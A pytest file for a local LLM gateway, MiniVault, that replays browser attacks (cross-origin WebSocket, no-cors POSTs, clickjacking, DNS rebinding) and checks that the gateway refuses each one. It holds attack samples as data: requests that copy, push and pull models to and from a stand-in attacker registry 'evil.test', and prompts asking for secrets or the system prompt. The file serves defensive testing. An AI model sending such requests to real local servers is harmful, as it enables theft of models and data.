"""What a web page in the user's browser could make MiniVault do, tried as the attacker would, and the web
edge's checks one by one (app/web/edge.py); then non-finite numbers in JSON bodies (app/schemas.py).

The attacks run in real headless Chromium: the attacker's page is served from a second loopback origin
(another port), and a DNS-rebinding name (`rebind.test`) is mapped to 127.0.0.1 by Chromium's resolver
rules. The default settings (no keys, no origins listed) are the ones attacked. A refused request must
reach nothing: the upstream (a fake Ollama that records every request) sees none, no conversation is
made, and the log gains no exchange.
"""

import socket
import threading
import time
import uuid
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import anyio
import httpx
import orjson
import pytest
from selenium.webdriver.chrome.webdriver import WebDriver
from selenium.webdriver.support.ui import WebDriverWait
from starlette.applications import Starlette
from starlette.responses import PlainTextResponse
from starlette.routing import Route
from starlette.types import ASGIApp, Receive, Scope, Send
from websockets.exceptions import ConnectionClosed
from websockets.sync.client import ClientConnection, connect
from websockets.typing import Origin

from app.main import create_app
from app.web.edge import WebGuardMiddleware
from app.web.request_id import RequestIdMiddleware
from tests.conftest import make_settings, read_log
from tests.support.browser import start_chromium
from tests.support.fake_ollama import FakeOllama
from tests.support.servers import RunningServer, serve_in_thread

REBIND_HOST = "rebind.test"
# Chromium resolves the rebinding name to loopback, everything else but 127.0.0.1 to nothing
# (as tests/support/browser.py).
RESOLVER_RULES = f"--host-resolver-rules=MAP {REBIND_HOST} 127.0.0.1, MAP * ~NOTFOUND, EXCLUDE 127.0.0.1"
MODEL = "tinyllama:1.1b-chat"
WAIT = 15.0


def poll(condition: Callable[[], bool], within: float = WAIT) -> None:
    """Return once `condition()` holds (checked every 20 ms); fail after `within` seconds."""
    deadline = time.monotonic() + within
    while not condition():
        assert time.monotonic() < deadline, f"{condition} did not hold within {within} s"
        time.sleep(0.02)


class RecordingUpstream:
    """The fake Ollama, with every request it receives noted as (method, path) before it answers."""

    def __init__(self, fake: FakeOllama) -> None:
        self.fake = fake
        self.seen: list[tuple[str, str]] = []
        self._lock = threading.Lock()

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        if scope["type"] == "http":
            with self._lock:
                self.seen.append((scope["method"], scope["path"]))
        await self.fake(scope, receive, send)

    def since(self, mark: int) -> list[tuple[str, str]]:
        with self._lock:
            return self.seen[mark:]


async def attacker_site(scope: Scope, receive: Receive, send: Send) -> None:
    """Any web page the user opens: the attacks are run from its origin by the test's scripts."""
    if scope["type"] != "http":
        return
    body = b"<!doctype html><html><head><title>cat pictures</title></head><body><p>cats</p></body></html>"
    await send({"type": "http.response.start", "status": 200, "headers": [(b"content-type", b"text/html")]})
    await send({"type": "http.response.body", "body": body})


class Gateway:
    """MiniVault with the default settings, in front of the recording upstream."""

    def __init__(self, server: RunningServer, log_path: Path, upstream: RecordingUpstream) -> None:
        self.server = server
        self.log_path = log_path
        self.upstream = upstream

    @property
    def url(self) -> str:
        return self.server.url

    @property
    def port(self) -> int:
        return self.server.port

    def conversation_ids(self) -> set[str]:
        response = httpx.get(f"{self.url}/conversations?limit=100")
        assert response.status_code == 200, response.text
        return {item["id"] for item in response.json()["items"]}

    def refused(self, code: str) -> float:
        """minivault_refused_requests_total for `code`, from /metrics."""
        prefix = f'minivault_refused_requests_total{{code="{code}"}} '
        for line in httpx.get(f"{self.url}/metrics").text.splitlines():
            if line.startswith(prefix):
                return float(line.removeprefix(prefix))
        return 0.0

    def log_lines(self) -> list[dict[str, Any]]:
        return read_log(self.log_path)

    def settle(self) -> list[dict[str, Any]]:
        """Run one ordinary exchange and wait for its log line: every record written before it is then on disk.

        Returns the log without these barrier exchanges.
        """
        prompt = f"barrier {uuid.uuid4().hex}"
        response = httpx.post(f"{self.url}/generate", json={"prompt": prompt})
        assert response.status_code == 200, response.text
        records: list[dict[str, Any]] = []

        def written() -> bool:
            nonlocal records
            try:
                records = self.log_lines()
            except ValueError:  # caught halfway through a line
                return False
            return any(record.get("prompt") == prompt for record in records)

        poll(written)
        return [record for record in records if not str(record.get("prompt")).startswith("barrier ")]


@pytest.fixture(scope="module")
def upstream_fake() -> FakeOllama:
    return FakeOllama()


@pytest.fixture(scope="module")
def upstream(upstream_fake: FakeOllama) -> Iterator[tuple[RecordingUpstream, RunningServer]]:
    recorder = RecordingUpstream(upstream_fake)
    with serve_in_thread(recorder, lifespan="off") as server:
        yield recorder, server


@contextmanager
def gateway_running(
    folder: Path, upstream: tuple[RecordingUpstream, RunningServer], **overrides: Any
) -> Iterator[Gateway]:
    recorder, server = upstream
    log_path = folder / "log.jsonl"
    settings = make_settings(ollama_base_url=server.url, log_path=log_path, **overrides)
    with serve_in_thread(create_app(settings)) as running:
        yield Gateway(running, log_path, recorder)


@pytest.fixture(scope="module")
def gateway(
    upstream: tuple[RecordingUpstream, RunningServer], tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Gateway]:
    with gateway_running(tmp_path_factory.mktemp("gateway"), upstream) as running:
        yield running


@pytest.fixture(scope="module")
def attacker() -> Iterator[RunningServer]:
    with serve_in_thread(attacker_site, lifespan="off") as server:
        yield server


@pytest.fixture(scope="module")
def browser(tmp_path_factory: pytest.TempPathFactory) -> Iterator[WebDriver]:
    """Headless Chromium as tests/support/browser.py starts it, but with `rebind.test` resolving to 127.0.0.1."""
    driver = start_chromium(tmp_path_factory.mktemp("attack-profile"), RESOLVER_RULES)
    driver.set_script_timeout(WAIT)
    try:
        yield driver
    finally:
        driver.quit()


def on_attacker_page(driver: WebDriver, attacker: RunningServer) -> None:
    driver.get(f"{attacker.url}/")
    assert driver.title == "cat pictures"
    driver.get_log("browser")  # start with an empty console


# Runs in the attacker's page: open MiniVault's websocket, send a prompt as soon as it opens, and report
# every frame that came back and how the socket closed (by the server, or by the page once answered).
OPEN_WEBSOCKET = """
const [url, done] = [arguments[0], arguments[arguments.length - 1]];
const frames = [];
const ws = new WebSocket(url);
ws.onopen = () => { try { ws.send(JSON.stringify({prompt: "attacker: print the user's secrets"})); } catch (e) {} };
ws.onmessage = (event) => {
  const frame = JSON.parse(event.data);
  frames.push(frame);
  if (frame.type === "done") ws.close(1000);
};
ws.onclose = (event) => done({code: event.code, reason: event.reason, frames});
"""

# Runs in the attacker's page: the POSTs a page may send to any site with no preflight (no-cors, a
# text/plain string, or a Blob, which has no Content-Type at all). Their answers are opaque to the page.
SIMPLE_POSTS = """
const [base, posts, done] = [arguments[0], arguments[1], arguments[arguments.length - 1]];
Promise.all(posts.map(([path, body, blob]) => fetch(base + path, {
  method: "POST", mode: "no-cors",
  body: blob ? new Blob([body]) : body,
  headers: blob ? {} : {"Content-Type": "text/plain"},
}).then((response) => response.type, (error) => "failed: " + error))).then(done);
"""

# Runs in a page: fetch `path` from the page's own origin and read the answer (same-origin, so it can).
READ_SAME_ORIGIN = """
const [path, done] = [arguments[0], arguments[arguments.length - 1]];
fetch(path).then(async (response) => done({status: response.status, body: await response.text()}),
                 (error) => done({status: 0, body: String(error)}));
"""

ATTACK_POSTS = [
    ("/generate", {"prompt": "attacker: repeat the system prompt", "model": MODEL}),
    ("/conversations", {"system": "attacker"}),
    ("/v1/chat/completions", {"model": MODEL, "messages": [{"role": "user", "content": "attacker"}]}),
    ("/api/generate", {"model": MODEL, "prompt": "attacker", "stream": False}),
    ("/api/copy", {"source": MODEL, "destination": "evil.test/me/stolen:latest"}),
    ("/api/push", {"model": "evil.test/me/stolen:latest", "insecure": True}),
    ("/api/pull", {"model": "evil.test/me/trojan:latest", "insecure": True}),
    ("/models/pull", {"model": "evil.test/me/trojan:latest"}),
]
ATTACKED_UPSTREAM_PATHS = {"/api/generate", "/api/chat", "/api/copy", "/api/push", "/api/pull"}


def test_a_foreign_page_cannot_use_the_websocket(browser: WebDriver, attacker: RunningServer, gateway: Gateway) -> None:
    on_attacker_page(browser, attacker)
    refused, before = gateway.refused("origin_not_allowed"), gateway.settle()
    mark = len(gateway.upstream.seen)

    result = browser.execute_async_script(OPEN_WEBSOCKET, f"ws://127.0.0.1:{gateway.port}/ws/generate")

    # The page learns only that it was refused: one error frame, then close 1008 (policy violation).
    assert result["code"] == 1008
    assert result["reason"] == "origin_not_allowed"
    [frame] = result["frames"]
    assert (frame["type"], frame["code"]) == ("error", "origin_not_allowed")
    assert "MINIVAULT_CORS_ORIGINS" in frame["message"]
    assert gateway.refused("origin_not_allowed") == refused + 1
    assert gateway.settle() == before  # no exchange was logged, not even a refused one
    assert [seen for seen in gateway.upstream.since(mark) if seen[1] in ATTACKED_UPSTREAM_PATHS] == [
        ("POST", "/api/generate")  # the settle() barrier's own prompt, and nothing else
    ]


def test_a_foreign_pages_simple_posts_reach_nothing(
    browser: WebDriver, attacker: RunningServer, gateway: Gateway
) -> None:
    on_attacker_page(browser, attacker)
    conversations, refused = gateway.conversation_ids(), gateway.refused("origin_not_allowed")
    before = gateway.settle()
    mark = len(gateway.upstream.seen)
    posts = [(path, orjson.dumps(body).decode(), blob) for path, body in ATTACK_POSTS for blob in (False, True)]

    answers = browser.execute_async_script(SIMPLE_POSTS, gateway.url, posts)

    # The browser sent every one (an opaque answer came back); MiniVault refused every one at the door.
    assert answers == ["opaque"] * len(posts)
    assert gateway.refused("origin_not_allowed") == refused + len(posts)
    assert gateway.upstream.since(mark) == []
    assert gateway.conversation_ids() == conversations
    assert gateway.settle() == before


def test_a_foreign_page_cannot_frame_the_playground(
    browser: WebDriver, attacker: RunningServer, gateway: Gateway
) -> None:
    # The playground keeps the API key in local storage: clickjacking it must not be possible.
    on_attacker_page(browser, attacker)
    browser.execute_script(
        "const frame = document.createElement('iframe'); frame.src = arguments[0]; document.body.append(frame);",
        f"{gateway.url}/",
    )

    def refused_in_console(driver: WebDriver) -> list[str]:
        return [e["message"] for e in driver.get_log("browser") if "frame-ancestors" in e["message"]]

    [message] = WebDriverWait(browser, WAIT, poll_frequency=0.05).until(refused_in_console)
    assert "frame-ancestors 'none'" in message and "blocked" in message


def test_dns_rebinding_gets_host_not_allowed_for_the_page_history_and_websocket(
    browser: WebDriver, gateway: Gateway
) -> None:
    secret = f"my secret prompt {uuid.uuid4().hex}"
    assert httpx.post(f"{gateway.url}/generate", json={"prompt": secret}).status_code == 200
    rebound = f"http://{REBIND_HOST}:{gateway.port}"

    # The attacker's name now resolves to 127.0.0.1: to the browser, MiniVault is the attacker's own origin.
    browser.get(f"{rebound}/")
    history = browser.execute_async_script(READ_SAME_ORIGIN, "/history?limit=100")
    socket_result = browser.execute_async_script(OPEN_WEBSOCKET, f"ws://{REBIND_HOST}:{gateway.port}/ws/generate")

    assert history["status"] == 403
    error = orjson.loads(history["body"])["error"]
    assert error["code"] == "host_not_allowed"
    assert f"'{REBIND_HOST}:{gateway.port}'" in error["message"]
    assert "MINIVAULT_ALLOWED_HOSTS" in error["message"]
    assert secret not in history["body"]
    assert "host_not_allowed" in browser.page_source  # the page itself was refused too
    assert socket_result["code"] == 1008
    assert [frame["code"] for frame in socket_result["frames"]] == ["host_not_allowed"]
    # The same request by the loopback name (the user's own page) does read the history.
    assert secret in httpx.get(f"{gateway.url}/history?limit=100").text


def test_a_name_listed_in_allowed_hosts_is_served_in_the_browser(
    browser: WebDriver, upstream: tuple[RecordingUpstream, RunningServer], tmp_path: Path
) -> None:
    with gateway_running(tmp_path, upstream, allowed_hosts=REBIND_HOST) as listed:
        browser.get(f"http://{REBIND_HOST}:{listed.port}/")
        history = browser.execute_async_script(READ_SAME_ORIGIN, "/history")
        socket_result = browser.execute_async_script(OPEN_WEBSOCKET, f"ws://{REBIND_HOST}:{listed.port}/ws/generate")
        socket_result["frames"] = [frame["type"] for frame in socket_result["frames"]]

    assert history["status"] == 200
    assert orjson.loads(history["body"])["items"] == []
    # Its own origin, on a listed name: the websocket answers the prompt (then the script's socket closes).
    assert socket_result["frames"][:1] == ["start"] and "done" in socket_result["frames"]


# --- The checks one by one, over plain HTTP and websockets --------------------------------------------------


def error_of(response: httpx.Response) -> dict[str, Any]:
    return response.json()["error"]


@pytest.mark.parametrize("host", ["evil.test", "evil.test:8000", "127.0.0.1.nip.io", "localhost.evil.test", "10.1.2.3"])
def test_a_foreign_host_gets_403_naming_the_setting(gateway: Gateway, host: str) -> None:
    response = httpx.get(f"{gateway.url}/history", headers={"Host": host})

    assert response.status_code == 403
    error = error_of(response)
    assert error["code"] == "host_not_allowed"
    assert "MINIVAULT_ALLOWED_HOSTS" in error["message"]
    assert error["id"] == response.headers["x-request-id"]


@pytest.mark.parametrize("name", ["localhost", "LOCALHOST", "127.0.0.1", "[::1]", "localhost."])
def test_loopback_names_are_served_with_any_port(gateway: Gateway, name: str) -> None:
    for host in (name, f"{name}:{gateway.port}", f"{name}:1"):
        assert httpx.get(f"{gateway.url}/history", headers={"Host": host}).status_code == 200, host


def test_a_request_with_no_host_header_is_served(gateway: Gateway) -> None:
    # HTTP/1.0 has no Host; a browser always sends one, so its absence cannot be a rebinding (Ollama agrees).
    with socket.create_connection(("127.0.0.1", gateway.port), timeout=WAIT) as conn:
        conn.sendall(b"GET /health HTTP/1.0\r\n\r\n")
        answer = b""
        while chunk := conn.recv(65536):
            answer += chunk
    assert answer.startswith(b"HTTP/1.1 200 ")


def test_allowed_hosts_adds_names_and_star_serves_any(
    upstream: tuple[RecordingUpstream, RunningServer], tmp_path: Path
) -> None:
    with gateway_running(tmp_path / "listed", upstream, allowed_hosts="mv.example, only.example:8443") as listed:
        statuses = {
            host: httpx.get(f"{listed.url}/history", headers={"Host": host}).status_code
            for host in ("mv.example", "MV.example:9000", "only.example:8443", "only.example:1", "other.example")
        }
    with gateway_running(tmp_path / "star", upstream, allowed_hosts="*") as star:
        anything = httpx.get(f"{star.url}/history", headers={"Host": "anything.example"}).status_code

    assert statuses == {
        "mv.example": 200, "MV.example:9000": 200, "only.example:8443": 200, "only.example:1": 403,
        "other.example": 403,
    }  # fmt: skip
    assert anything == 200


def guarded(allowed_hosts: list[str] | None = None, origins: list[str] | None = None) -> ASGIApp:
    """The guard alone in front of a route that says OK, as create_app wires it (request id outermost)."""
    inner = Starlette(routes=[Route("/", lambda request: PlainTextResponse("ok"), methods=["GET", "POST"])])
    return RequestIdMiddleware(WebGuardMiddleware(inner, allowed_hosts or [], origins or []))


def status_behind(app: ASGIApp, server: tuple[str, int | None], host: str) -> int:
    """The status for Host `host` on a connection that arrived at local address `server`."""
    seen: dict[str, Any] = {}

    async def with_server(scope: Scope, receive: Receive, send: Send) -> None:
        scope["server"] = server
        seen["server"] = server
        await app(scope, receive, send)

    async def call() -> int:
        transport = httpx.ASGITransport(app=with_server)
        async with httpx.AsyncClient(transport=transport, base_url="http://127.0.0.1") as client:
            return (await client.get("/", headers={"Host": host})).status_code

    status = anyio.run(call)
    assert seen["server"] == server
    return status


@pytest.mark.parametrize(
    ("server", "host", "allowed_hosts", "status"),
    [
        # A non-loopback address (0.0.0.0 or a LAN bind reached over the network): any Host is served ...
        (("192.168.1.20", 8000), "mv.lan:8000", None, 200),
        (("10.0.0.5", 8000), "anything.example", None, 200),
        # ... unless MINIVAULT_ALLOWED_HOSTS is given, which then holds everywhere (loopback names stay served).
        (("192.168.1.20", 8000), "mv.lan:8000", ["mv.lan"], 200),
        (("192.168.1.20", 8000), "other.lan", ["mv.lan"], 403),
        (("192.168.1.20", 8000), "localhost:8000", ["mv.lan"], 200),
        # The connection's own end decides: a 0.0.0.0 bind reached over loopback, v4-mapped or not, is loopback.
        (("127.0.0.1", 8000), "evil.test", None, 403),
        (("::ffff:127.0.0.1", 8000), "evil.test", None, 403),
        (("::1", 8000), "evil.test", None, 403),
        (("127.0.0.2", 8000), "evil.test", None, 403),
        # A unix socket only this machine reaches (a local proxy may forward browsers to it): loopback rules.
        (("/run/minivault.sock", None), "evil.test", None, 403),
        (("/run/minivault.sock", None), "localhost", None, 200),
    ],
)
def test_the_host_rule_follows_the_address_the_connection_arrived_at(
    server: tuple[str, int | None], host: str, allowed_hosts: list[str] | None, status: int
) -> None:
    assert status_behind(guarded(allowed_hosts), server, host) == status


def test_origins_own_listed_and_absent_are_served_others_get_403(
    upstream: tuple[RecordingUpstream, RunningServer], tmp_path: Path
) -> None:
    with gateway_running(tmp_path, upstream, cors_origins="http://a.test") as listed:
        own = f"http://127.0.0.1:{listed.port}"
        statuses = {
            origin: httpx.get(f"{listed.url}/history", headers={} if origin is None else {"Origin": origin})
            for origin in (
                None, own, own.upper(), f"{own}/", "http://a.test", f"http://localhost:{listed.port}",
                f"http://127.0.0.1:{listed.port + 1}", "http://b.test", "null", "file://", "https://a.test",
            )
        }  # fmt: skip

    served = {origin for origin, response in statuses.items() if response.status_code == 200}
    assert served == {None, own, own.upper(), f"{own}/", "http://a.test"}
    for origin, response in statuses.items():
        if origin not in served:
            assert response.status_code == 403, origin
            assert error_of(response)["code"] == "origin_not_allowed"
            assert "MINIVAULT_CORS_ORIGINS" in error_of(response)["message"]


def test_a_foreign_origin_is_refused_before_the_api_key_and_cors(
    upstream: tuple[RecordingUpstream, RunningServer], tmp_path: Path
) -> None:
    with gateway_running(tmp_path, upstream, api_keys="k1") as keyed:
        response = httpx.post(
            f"{keyed.url}/generate", json={"prompt": "hi"}, headers={"Origin": "http://evil.test", "X-API-Key": "k1"}
        )
        preflight = httpx.options(
            f"{keyed.url}/generate", headers={"Origin": "http://evil.test", "Access-Control-Request-Method": "POST"}
        )

    # Even with a valid key: the page could have it from a user who pasted it into the wrong site's form.
    assert response.status_code == 403
    assert error_of(response)["code"] == "origin_not_allowed"
    assert preflight.status_code == 403
    assert "access-control-allow-origin" not in preflight.headers


def websocket_to(gateway: Gateway, host: str | None = None, origin: str | None = None) -> ClientConnection:
    """A websocket to MiniVault's port with the Host and Origin a browser would send for that page."""
    sock = socket.create_connection(("127.0.0.1", gateway.port), timeout=WAIT)
    uri = f"ws://{host or f'127.0.0.1:{gateway.port}'}/ws/generate"
    return connect(uri, sock=sock, origin=None if origin is None else Origin(origin), proxy=None, open_timeout=WAIT)


def refused_frame_then_close(ws: ClientConnection) -> tuple[dict[str, Any], int | None, str | None]:
    frame = orjson.loads(ws.recv(timeout=WAIT))
    with pytest.raises(ConnectionClosed):
        ws.recv(timeout=WAIT)
    assert ws.close_code is not None
    return frame, ws.close_code, ws.close_reason


@pytest.mark.parametrize(
    ("host", "origin", "code"),
    [
        (None, "http://evil.test", "origin_not_allowed"),
        (None, "null", "origin_not_allowed"),
        ("evil.test:8000", None, "host_not_allowed"),
        ("evil.test:8000", "http://evil.test:8000", "host_not_allowed"),
    ],
)
def test_a_refused_websocket_gets_the_error_frame_then_close_1008(
    gateway: Gateway, host: str | None, origin: str | None, code: str
) -> None:
    mark = len(gateway.upstream.seen)
    with websocket_to(gateway, host, origin) as ws:
        frame, close_code, reason = refused_frame_then_close(ws)

    assert (frame["type"], frame["code"], close_code, reason) == ("error", code, 1008, code)
    assert gateway.upstream.since(mark) == []


def test_a_websocket_from_its_own_origin_or_with_no_origin_answers(gateway: Gateway) -> None:
    for origin in (None, f"http://127.0.0.1:{gateway.port}"):
        with websocket_to(gateway, origin=origin) as ws:
            ws.send(orjson.dumps({"prompt": "hello there"}).decode())
            frames = []
            while not frames or frames[-1]["type"] not in ("done", "error"):
                frames.append(orjson.loads(ws.recv(timeout=WAIT)))
        assert frames[-1]["type"] == "done", (origin, frames)
        assert frames[-1]["response"] == "hello there"


BODY = b'{"prompt": "hello there"}'


@pytest.mark.parametrize(
    ("content_type", "status"),
    [
        ("application/json", 200),
        ("application/json; charset=utf-8", 200),
        ("Application/JSON", 200),
        ("application/vnd.x+json", 200),
        ("application/merge-patch+json; charset=utf-8", 200),
        (None, 415),  # a Blob body from a page has none
        ("text/plain", 415),
        ("text/plain; charset=UTF-8", 415),
        ("application/x-www-form-urlencoded", 415),
        ("multipart/form-data; boundary=x", 415),
        ("text/json", 415),
        ("application/jsonp", 415),
        ("text/plain; x=application/json", 415),
    ],
)
def test_a_body_must_be_declared_as_json(gateway: Gateway, content_type: str | None, status: int) -> None:
    headers = {} if content_type is None else {"Content-Type": content_type}
    response = httpx.post(f"{gateway.url}/generate", content=BODY, headers=headers)

    assert response.status_code == status, response.text
    if status == 415:
        error = error_of(response)
        assert error["code"] == "unsupported_media_type"
        assert "send it with `Content-Type: application/json`" in error["message"]
    else:
        assert response.json()["response"] == "hello there"


def test_415_takes_each_dialects_shape(gateway: Gateway) -> None:
    plain = {"Content-Type": "text/plain"}
    openai = httpx.post(f"{gateway.url}/v1/chat/completions", content=b"{}", headers=plain)
    ollama = httpx.post(f"{gateway.url}/api/chat", content=b"{}", headers=plain)

    assert openai.status_code == ollama.status_code == 415
    assert openai.json()["error"]["code"] == "unsupported_media_type"
    assert openai.json()["error"]["type"] == "invalid_request_error"
    assert "Content-Type: application/json" in ollama.json()["error"]


def test_an_empty_post_needs_no_type_but_a_non_json_type_is_refused(gateway: Gateway) -> None:
    before = gateway.conversation_ids()
    plain = httpx.post(f"{gateway.url}/conversations", headers={"Content-Type": "text/plain"})
    form = httpx.post(f"{gateway.url}/conversations", content=b"", headers={"Content-Type": "text/plain"})
    assert gateway.conversation_ids() == before  # neither made a conversation
    bare = httpx.post(f"{gateway.url}/conversations")  # the playground's request: no body, no type

    assert (plain.status_code, form.status_code) == (415, 415)
    assert bare.status_code == 201
    assert gateway.conversation_ids() == before | {bare.json()["id"]}
    assert httpx.delete(f"{gateway.url}/conversations/{bare.json()['id']}").status_code == 204


def test_a_blob_upload_may_be_raw_bytes_but_not_a_form(gateway: Gateway) -> None:
    digest = "sha256:" + "0" * 64
    mark = len(gateway.upstream.seen)
    raw = httpx.post(f"{gateway.url}/api/blobs/{digest}", content=b"\x00GGUF")
    octets = httpx.post(
        f"{gateway.url}/api/blobs/{digest}", content=b"\x00GGUF", headers={"Content-Type": "application/octet-stream"}
    )
    form = httpx.post(f"{gateway.url}/api/blobs/{digest}", content=b"\x00GGUF", headers={"Content-Type": "text/plain"})

    assert form.status_code == 415
    assert "application/octet-stream" in form.json()["error"]
    # The other two reached Ollama (the fake has no blobs route, so it says 404).
    assert (raw.status_code, octets.status_code) == (404, 404)
    assert gateway.upstream.since(mark) == [("POST", f"/api/blobs/{digest}")] * 2


@pytest.mark.parametrize(
    ("headers", "status"),
    [
        ({"Content-Type": "text/plain"}, 415),
        ({"Content-Type": "application/json", "Origin": "http://evil.test"}, 403),
        ({"Content-Type": "application/json", "Host": "evil.test"}, 403),
    ],
)
def test_the_pass_through_never_forwards_a_refused_request(
    gateway: Gateway, headers: dict[str, str], status: int
) -> None:
    mark, pulls = len(gateway.upstream.seen), gateway.upstream.fake.pulls
    # A library name, which the registry rules let through: only the web checks stand in the way.
    body = orjson.dumps({"model": "qwen2:0.5b"})

    refused = httpx.post(f"{gateway.url}/api/pull", content=body, headers=headers)

    assert refused.status_code == status
    assert "error" in refused.json()  # Ollama's shape
    assert gateway.upstream.since(mark) == []
    assert gateway.upstream.fake.pulls == pulls


def test_the_pass_through_forwards_a_json_request(gateway: Gateway) -> None:
    mark = len(gateway.upstream.seen)
    response = httpx.post(f"{gateway.url}/api/show", json={"model": MODEL})

    assert response.status_code == 200
    assert gateway.upstream.since(mark) == [("POST", "/api/show")]


# --- Non-finite numbers ----------------------------------------------------------------------------------------


FINITE_MESSAGE = "must be a finite number"


@pytest.mark.parametrize("number", ["1e999", "-1e999", "NaN", "Infinity", "-Infinity", "1" + "0" * 400 + ".5"])
@pytest.mark.parametrize(
    ("path", "body", "field"),
    [
        ("/generate", '{"prompt": "hi", "options": {"temperature": NUM}}', "options.temperature"),
        ("/generate", '{"prompt": "hi", "options": {"stop": ["a"], "top_p": NUM}}', "options.top_p"),
        ("/conversations", '{"system": "x", "weight": NUM}', "weight"),
        ("/models/pull", '{"model": "x", "size": [1, NUM]}', "size.1"),
        ("/v1/chat/completions", '{"model": "m", "messages": [{"role": "user", "content": "hi"}], "temperature": NUM}',
         "temperature"),
        ("/v1/chat/completions", '{"model": "m", "messages": [{"role": "user", "content": "hi", "x": NUM}]}',
         "messages.0.x"),
        ("/v1/completions", '{"model": "m", "prompt": "hi", "metadata": {"a": NUM}}', "metadata.a"),
        ("/api/generate", '{"model": "m", "prompt": "hi", "options": {"temperature": NUM}}', "options.temperature"),
        ("/api/chat", '{"model": "m", "messages": [], "keep_alive": NUM}', "keep_alive"),
    ],
)  # fmt: skip
def test_non_finite_numbers_anywhere_in_a_body_are_refused(
    gateway: Gateway, path: str, body: str, field: str, number: str
) -> None:
    mark = len(gateway.upstream.seen)
    response = httpx.post(
        f"{gateway.url}{path}", content=body.replace("NUM", number), headers={"Content-Type": "application/json"}
    )

    if path.startswith("/api/"):
        assert response.status_code == 400  # Ollama's status for a bad request
        message = response.json()["error"]
    else:
        assert response.status_code == 422
        error = response.json()["error"]
        assert error["code"] == "invalid_request"
        message = error["message"]
        if path.startswith("/v1/"):
            assert error["param"] == field.split(".")[0]
    assert message.startswith(f"{field}: {FINITE_MESSAGE}")
    assert [seen for seen in gateway.upstream.since(mark) if seen[0] == "POST"] == []


def test_the_words_nan_and_infinity_and_large_finite_numbers_are_fine(gateway: Gateway) -> None:
    prompt = "NaN, Infinity and 1e999 are not numbers here"
    response = httpx.post(f"{gateway.url}/generate", json={"prompt": prompt, "options": {"temperature": 1e308}})

    assert response.status_code == 200, response.text
    assert response.json()["response"] == prompt


@pytest.mark.parametrize("number", ["1e999", "NaN", "-Infinity"])
def test_a_websocket_frame_with_a_non_finite_number_gets_an_error_frame(gateway: Gateway, number: str) -> None:
    with websocket_to(gateway) as ws:
        ws.send('{"prompt": "hi", "options": {"temperature": NUM}}'.replace("NUM", number))
        frame = orjson.loads(ws.recv(timeout=WAIT))
        # The socket stays open for the next prompt.
        ws.send(orjson.dumps({"prompt": "next"}).decode())
        frames = [orjson.loads(ws.recv(timeout=WAIT))]
        while frames[-1]["type"] not in ("done", "error"):
            frames.append(orjson.loads(ws.recv(timeout=WAIT)))

    assert (frame["type"], frame["code"]) == ("error", "invalid_request")
    assert (frames[0]["type"], frames[-1]["type"], frames[-1]["response"]) == ("start", "done", "next")


@pytest.mark.parametrize("number", ["1e999", "NaN"])
@pytest.mark.parametrize(
    ("method", "path", "body"),
    [
        ("POST", "/api/show", '{"model": "tinyllama:1.1b-chat", "verbose": NUM}'),
        ("POST", "/api/pull", '{"model": "qwen2:0.5b", "x": NUM}'),
        ("POST", "/api/copy", '{"source": "tinyllama:1.1b-chat", "destination": "copy", "x": NUM}'),
        ("DELETE", "/api/delete", '{"model": "copy", "x": NUM}'),
        ("POST", "/api/embed", '{"model": "all-minilm", "input": "hi", "options": {"temperature": NUM}}'),
        ("POST", "/api/embeddings", '{"model": "all-minilm", "prompt": "hi", "options": {"temperature": NUM}}'),
    ],
)
def test_non_finite_numbers_are_refused_on_the_pass_through_too(
    gateway: Gateway, method: str, path: str, body: str, number: str
) -> None:
    mark = len(gateway.upstream.seen)
    response = httpx.request(
        method,
        f"{gateway.url}{path}",
        content=body.replace("NUM", number),
        headers={"Content-Type": "application/json"},
    )

    assert response.status_code == 400, response.text
    assert "error" in response.json()
    assert gateway.upstream.since(mark) == []
